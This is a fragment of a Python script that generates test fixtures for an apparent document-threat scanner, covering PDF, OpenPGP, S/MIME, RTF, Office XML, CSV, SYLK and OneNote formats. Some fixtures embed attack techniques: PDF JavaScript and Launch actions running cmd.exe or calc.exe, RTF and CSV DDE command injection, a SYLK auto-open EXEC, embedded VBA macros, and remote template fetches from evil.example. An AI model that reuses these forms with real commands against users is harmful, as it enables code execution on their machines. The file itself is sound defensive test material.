put("half.pdf", p[:len(p) // 2], BAD)
o = get("objstm.pdf")
put("half-objstm.pdf", o[:len(o) // 2], BAD)
put("head-only.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", BAD)


def pdf(objects, trailer="", head=b"%PDF-1.7\n"):
    """A PDF of objects: number -> text or (dictionary, stream)."""
    b, offs = head, {}
    for n, o in objects.items():
        offs[n] = len(b)
        if isinstance(o, tuple):
            b += b"%d 0 obj\n<</Length %d %s>>\nstream\n" % (n, len(o[1]), o[0].encode()) + o[1] + b"\nendstream\nendobj\n"
        else:
            b += b"%d 0 obj\n" % n + o.encode("latin-1") + b"\nendobj\n"
    x = len(b)
    top = max(objects) + 1
    b += b"xref\n0 %d\n0000000000 65535 f \n" % top
    for n in range(1, top):
        b += b"%010d 00000 n \n" % offs[n] if n in offs else b"0000000000 00000 f \n"
    return b + ("trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (top, trailer, x)).encode()


PAGES = {2: "<</Type/Pages/Kids[3 0 R]/Count 1>>", 3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"}
put("open-javascript.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>", **PAGES}), MACRO)
put("open-javascript-escaped.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R/Open#41ction 4 0 R>>", **PAGES, 4: "<</S/Java#53cript/JS(x)>>"}), MACRO)
put("names-javascript.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R/Names<</JavaScript 4 0 R>>>>", **PAGES, 4: "<</Names[(a)<</S/JavaScript/JS(x)>>]>>"}), MACRO)
put("page-javascript.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R>>", 2: PAGES[2], 3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/JavaScript/JS(x)>>>>>>"}), MACRO)
put("form-javascript.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]>>>>", **PAGES, 4: "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/AA<</F<</S/JavaScript/JS(AFNumber_Format\\(2\\))>>/C<</S/JavaScript/JS(y)>>>>>>".replace("/C<<", "/V<<")}))
put("launch.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)>>>>", **PAGES}), MACRO)
put("launch-link.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R>>", 2: PAGES[2], 3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[<</Type/Annot/Subtype/Link/A<</S/Launch/Win<</F(calc.exe)>>>>>>]>>"}), MACRO)
put("open-destination.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>", **PAGES}))
put("uri.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R>>", 2: PAGES[2], 3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.com/)>>>>]>>"}))
put("open-unc.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoToR/F(\\\\\\\\198.51.100.7\\\\share\\\\x.pdf)/D[0/Fit]>>>>", **PAGES}), TRACK)
put("public-key.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R>>", **PAGES, 4: "<</Filter/Adobe.PubSec/SubFilter/adbe.pkcs7.s5/V 4/Length 128/CF<</DefaultCryptFilter<</CFM/AESV2/Recipients[<00>]>>>>/StmF/DefaultCryptFilter/StrF/DefaultCryptFilter>>"}, "/Encrypt 4 0 R"), ENC)
put("null-encrypt.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R>>", **PAGES}, "/Encrypt null"))
js = zlib.compress(b"5 0 <</S/JavaScript/JS(x)>>")
put("objstm-javascript.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>", **PAGES, 4: ("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", js)}).replace(b"startxref", b"startxreX"), MACRO)

# --- OpenPGP ----------------------------------------------------------------------------------
home = os.path.join(tmp, "gpg")
os.mkdir(home, 0o700)
g = ["gpg", "--homedir", home, "--batch", "--yes", "--pinentry-mode", "loopback", "--passphrase", "", "--trust-model", "always"]
run(*g, "--quick-gen-key", "a@example.com", "rsa2048")
run(*g, "--quick-add-key", re.search(rb"fpr:::::::::(\w+):", run(*g, "--with-colons", "-k", "a@example.com")).group(1).decode(), "rsa2048", "encr")
run(*g, "--quick-gen-key", "b@example.com", "default", "default")
letter = b"Dear reader,\n\nthis is a letter.\n"


def gpg(name, *args, data=letter, causes=()):
    put(name, run(*g, *args, input=data), *causes)


sym = ["--passphrase", "secret", "--symmetric"]
gpg("symmetric.asc", *sym, "--armor", causes=[MSG])
gpg("symmetric.gpg", *sym, causes=[MSG])
gpg("symmetric-old.gpg", *sym, "--rfc2440", "--cipher-algo", "CAST5", "--disable-mdc", causes=[MSG])
gpg("public.asc", "--armor", "-r", "a@example.com", "--encrypt", causes=[MSG])
gpg("public.gpg", "-r", "a@example.com", "--encrypt", causes=[MSG])
gpg("public-ecc.gpg", "-r", "b@example.com", "--encrypt", causes=[MSG])
gpg("public-hidden.gpg", "-R", "b@example.com", "-R", "a@example.com", "--encrypt", causes=[MSG])
gpg("public-signed.gpg", "-u", "a@example.com", "-r", "b@example.com", "--sign", "--encrypt", causes=[MSG])
gpg("signed.asc", "--armor", "--sign")
gpg("signed.gpg", "--sign")
gpg("signed-uncompressed.gpg", "-z", "0", "--sign")
gpg("clearsigned.txt", "--clearsign")
gpg("detached.sig", "--detach-sign")
gpg("detached.asc", "--armor", "--detach-sign")
gpg("stored.asc", "--armor", "--store")
gpg("signed-macro.gpg", "--sign", data=get("vba.docm"), causes=[MACRO])
put("key.asc", run(*g, "--armor", "--export", "a@example.com"))
put("key.gpg", run(*g, "--export", "a@example.com"))
put("secret-key.asc", run(*g, "--armor", "--export-secret-keys", "a@example.com"))
block = get("public.asc")
put("inline-pgp.txt", b"Hello,\r\nread this:\r\n\r\n" + block.replace(b"\n", b"\r\n") + b"\r\nBye\r\n", MSG)
put("inline-pgp.html", b"<html><body><p>Hello</p><div>" + block.replace(b"\n", b"<br>\n") + b"</div></body></html>", MSG)
put("talk-of-pgp.txt", b"An encrypted mail begins with -----BEGIN PGP MESSAGE----- and ends with -----END PGP MESSAGE-----.\n\nFor instance:\n\n-----BEGIN PGP MESSAGE-----\n(lines)\n-----END PGP MESSAGE-----\n")
put("quoted-pgp.txt", b"".join(b"> " + l + b"\n" for l in block.splitlines()) + b"\nI cannot read that.\n")

# --- S/MIME -----------------------------------------------------------------------------------
key, crt = os.path.join(tmp, "k.pem"), os.path.join(tmp, "c.pem")
run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", crt, "-subj", "/CN=a@example.com", "-days", "3650")


def cms(name, *args, data=letter, causes=()):
    put(name, run("openssl", "cms", *args, input=data), *causes)


cms("enveloped.p7m", "-encrypt", "-outform", "DER", "-aes256", crt, causes=[MSG])
cms("enveloped-stream.p7m", "-encrypt", "-stream", "-outform", "DER", "-aes256", crt, causes=[MSG])
cms("enveloped.pem", "-encrypt", "-outform", "PEM", "-aes256", crt, causes=[MSG])
cms("auth-enveloped.p7m", "-encrypt", "-outform", "DER", "-aes-256-gcm", crt, causes=[MSG])
cms("encrypted-data.p7m", "-EncryptedData_encrypt", "-outform", "DER", "-aes256", "-secretkey", "00" * 32, causes=[MSG])
put("enveloped-pkcs7.p7m", run("openssl", "smime", "-encrypt", "-outform", "DER", "-aes256", crt, input=letter), MSG)
cms("signed.p7m", "-sign", "-nodetach", "-outform", "DER", "-signer", crt, "-inkey", key)
cms("signed-stream.p7m", "-sign", "-nodetach", "-stream", "-outform", "DER", "-signer", crt, "-inkey", key)
cms("detached.p7s", "-sign", "-outform", "DER", "-signer", crt, "-inkey", key)
cms("signed-macro.p7m", "-sign", "-binary", "-nodetach", "-outform", "DER", "-signer", crt, "-inkey", key, data=get("vba.doc"), causes=[MACRO])
cms("signed-stream-macro.p7m", "-sign", "-binary", "-nodetach", "-stream", "-outform", "DER", "-signer", crt, "-inkey", key, data=get("vba.doc"), causes=[MACRO])
put("certificates.p7b", run("openssl", "crl2pkcs7", "-nocrl", "-certfile", crt, "-outform", "DER"))
put("certificate.pem", open(crt, "rb").read())
put("key.p12", run("openssl", "pkcs12", "-export", "-inkey", key, "-in", crt, "-passout", "pass:x"))


def der(tag, *parts):
    b = b"".join(parts)
    n = len(b)
    l = bytes([n]) if n < 128 else (lambda s: bytes([0x80 | len(s)]) + s)(n.to_bytes((n.bit_length() + 7) // 8, "big"))
    return bytes([tag]) + l + b


def compressed(data):
    oid = lambda h: der(6, bytes.fromhex(h))
    return der(0x30, oid("2a864886f70d0109100109"), der(0xA0, der(0x30, der(2, b"\0"), der(0x30, oid("2a864886f70d0109100308")),
               der(0x30, oid("2a864886f70d010701"), der(0xA0, der(4, zlib.compress(data)))))))


put("compressed.p7m", compressed(letter))
put("compressed-macro.p7m", compressed(get("vba.doc")), MACRO)
put("message.rpmsg", bytes.fromhex("76e80460c411e386") + bytes(100), MSG)

# --- Rich Text --------------------------------------------------------------------------------
R = b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}"
put("template.rtf", R + b"{\\*\\template http://evil.example/t.dotm}\\pard Text\\par}", TRACK)
put("template-unicode.rtf", R + b"{\\*\\template " + b"".join(b"\\u%d?" % c for c in b"https://evil.example/t") + b"}\\pard Text\\par}", TRACK)
put("template-local.rtf", R + b"{\\*\\template C:\\\\Templates\\\\Letter.dot}\\pard Text\\par}")
put("field.rtf", R + b'{\\field{\\*\\fldinst {INCLUDEPICTURE "http://b.example/p.png" \\\\d}}{\\fldrslt x}}\\par}', TRACK)
put("field-hyperlink.rtf", R + b'{\\field{\\*\\fldinst {HYPERLINK "http://example.com/"}}{\\fldrslt x}}\\par}')
put("field-dde.rtf", R + b'{\\field{\\*\\fldinst {DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe "/k calc"}}{\\fldrslt x}}\\par}', MACRO)


def ole1(cls, data):
    s = lambda t: struct.pack("<I", len(t) + 1) + t + b"\0" if t else struct.pack("<I", 0)
    return struct.pack("<II", 0x501, 2) + s(cls) + s(b"") + s(b"") + struct.pack("<I", len(data)) + data


hexed = lambda b: re.sub(rb"(.{64})", rb"\1\n", b.hex().encode())
put("object-macro.rtf", R + b"{\\object\\objemb{\\*\\objclass Excel.Sheet.8}{\\*\\objdata " + hexed(ole1(b"Excel.Sheet.8", get("vba.xls"))) + b"}}}", MACRO)
put("object-plain.rtf", R + b"{\\object\\objemb{\\*\\objclass Excel.Sheet.8}{\\*\\objdata " + hexed(ole1(b"Excel.Sheet.8", get("plain-calc.xls"))) + b"}}}")
put("object-link.rtf", R + b"{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata " + hexed(ole1(b"OLE2Link", OLELINK)) + b"}}}", TRACK)
put("object-bin.rtf", R + b"{\\object\\objemb{\\*\\objdata \\bin%d " % len(ole1(b"P", get("vba.doc"))) + ole1(b"P", get("vba.doc")) + b"}}}", MACRO)
put("object-package.rtf", R + b"{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + hexed(ole1(b"Package", packaged("x.docm", get("vba.docm"))[4:])) + b"}}}", MACRO)
put("rtf-as.doc", get("template.rtf"), TRACK)

# --- one XML file -----------------------------------------------------------------------------
active = b"ActiveMime\0\0\1\xf0" + bytes(0x1E - 14) + struct.pack("<H", 4) + bytes(0x32 - 0x20) + zlib.compress(code)
W = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" w:macrosPresent="%s">%s<w:body><w:p><w:r><w:t>Text</w:t></w:r></w:p></w:body></w:wordDocument>'
put("vba-2003.xml", (W % ("yes", '<w:docSuppData><w:binData w:name="editdata.mso">%s</w:binData></w:docSuppData>' % base64.encodebytes(active).decode())).encode(), MACRO)
put("plain-2003.xml", (W % ("no", "")).encode())
put("template-2003.xml", (W % ("no", '<w:docPr><w:attachedTemplate w:val="http://evil.example/t.dot"/></w:docPr>')).encode(), TRACK)


def flat_opc(name, extra=""):
    z = zipfile.ZipFile(io.BytesIO(get(name)))
    x = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
    for n in z.namelist():
        if n.endswith("/") or n == "[Content_Types].xml":
            continue
        b = z.read(n)
        if n.endswith((".xml", ".rels")):
            x += '<pkg:part pkg:name="/%s" pkg:contentType="application/xml"><pkg:xmlData>%s</pkg:xmlData></pkg:part>' % (n, re.sub(r"<\?xml[^>]*\?>", "", b.decode()))
        else:
            x += '<pkg:part pkg:name="/%s" pkg:contentType="%s" pkg:compression="store"><pkg:binaryData>%s</pkg:binaryData></pkg:part>' % (n, VBA_TYPE, base64.encodebytes(b).decode())
    return (x + "</pkg:package>").encode()


put("flat.xml", flat_opc("plain-writer.docx"))
put("flat-vba.xml", flat_opc("vba.docm"), MACRO)
put("flat-template.xml", flat_opc("template-http.docx"), TRACK)
put("data.xml", b'<?xml version="1.0"?><orders><order id="1"/></orders>')
MHT = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\nContent-Location: file:///C:/a.htm\r\nContent-Type: text/html\r\n\r\n<html>Text</html>\r\n\r\n--b\r\nContent-Location: file:///C:/editdata.mso\r\nContent-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n%s\r\n--b--\r\n"
put("vba-mht.doc", MHT % base64.encodebytes(active), MACRO)
put("plain.mht", MHT % base64.encodebytes(b"\x89PNG\r\n\x1a\n" + bytes(100)))

# --- text that spreadsheets run -----------------------------------------------------------------
put("dde.csv", b"Name,Amount\r\nA,1\r\n\"=cmd|'/c calc'!A0\",2\r\n", MACRO)
put("plain.csv", b"Name;Formula;Note\r\nA;=SUM(A1:A2);left|right!\r\n-5;+1;@b\r\n")
put("xlm.slk", b"ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1;KOut Flank;F\r\nC;X1;Y1;EEXEC(\"calc\")\r\nE\r\n", MACRO)
put("web-query.iqy", b"WEB\r\n1\r\nhttp://evil.example/data\r\n", TRACK)
put("openssl.enc", run("openssl", "enc", "-aes-256-cbc", "-pbkdf2", "-pass", "pass:secret", input=letter), ENC)


def one(data):
    """A OneNote section as far as its embedded file goes ([MS-ONESTORE] §2.6.13)."""
    return bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1008) + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<QIQ", len(data), 0, 0) + data + bytes.fromhex("22a7fb71790fa94abb138992564126b5")


put("file-macro.one", one(get("vba.doc")), MACRO)
put("file-plain.one", one(get("plain-writer.doc")))
put("note.txt", b"Just a note.\n")

with open(os.path.join(out, "expected.tsv"), "w") as f:
    for n in sorted(expected):
        f.write("%s\t%s\n" % (n, expected[n]))
for n in os.listdir(out):
    if n not in expected and n != "expected.tsv":
        print("left over:", n)
shutil.rmtree(tmp, ignore_errors=True)
print(len(expected), "files,", sum(v != "-" for v in expected.values()), "with findings")
